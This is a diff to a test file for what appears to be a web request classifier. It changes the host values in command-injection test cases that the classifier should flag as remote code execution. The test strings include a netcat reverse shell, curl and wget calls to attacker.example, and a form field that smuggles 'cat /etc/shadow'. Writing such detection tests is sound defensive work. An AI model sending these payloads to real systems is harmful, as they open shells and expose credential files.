@@ -200,8 +200,8 @@ for (const [name, where, v] of BENIGN) {
  */
 const RAW_QUERIES: Array<[string, AttackClass[]]> = [
   ['/?1+1&&curl+attacker.example', ['rce']],
-  ['/ping?host=127.0.0.1&&whoami', ['rce']],
-  ['/ping?host=127.0.0.1&&nc%20-e%20/bin/sh%2010.0.0.1%204444', ['rce']],
+  ['/ping?host=shop.example&&whoami', ['rce']],
+  ['/ping?host=shop.example&&nc%20-e%20/bin/sh%2010.0.0.1%204444', ['rce']],
   ['/ping?host=x&wget+attacker.example/x.sh', ['rce']],
   // Benign look-alikes: a doubled `&`, flags without `=`, a leading `&`, a name with a space.
   ['/search?q=shoes&&page=2', []],
@@ -223,6 +223,6 @@ test('raw form body: `&&` between commands is read as one shell value', () => {
         tx({ method: 'POST', target: '/ping', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body }),
       )
       ?.hits.map((h) => h.class) ?? [];
-  assert.deepEqual(form('ip=127.0.0.1&&cat+/etc/shadow'), ['rce']);
+  assert.deepEqual(form('ip=shop.example&&cat+/etc/shadow'), ['rce']);
   assert.deepEqual(form('name=Tom&&Jerry=1'), []);
 });
